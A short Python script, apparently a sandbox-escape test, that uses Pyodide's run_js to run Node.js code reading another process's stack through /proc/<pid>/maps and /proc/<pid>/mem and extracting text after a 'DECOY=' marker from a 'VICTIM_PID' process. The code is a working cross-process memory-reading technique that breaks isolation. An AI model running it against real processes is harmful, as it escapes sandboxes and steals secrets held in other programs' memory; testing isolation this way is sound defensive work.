"""Reads the memory of another process."""

from pyodide.code import run_js

read = run_js("""(pid) => {
  const fs = process.getBuiltinModule("fs");
  const stack = fs.readFileSync(`/proc/${pid}/maps`, "utf8").match(/^(\\w+)-(\\w+).*\\[stack\\]$/m);
  const [start, end] = [BigInt("0x" + stack[1]), BigInt("0x" + stack[2])];
  const bytes = Buffer.alloc(Number(end - start));
  fs.readSync(fs.openSync(`/proc/${pid}/mem`), bytes, 0, bytes.length, start);
  const place = bytes.indexOf("DECOY=");
  return bytes.toString("latin1", place, place + 50);
}""")
print(read(VICTIM_PID))
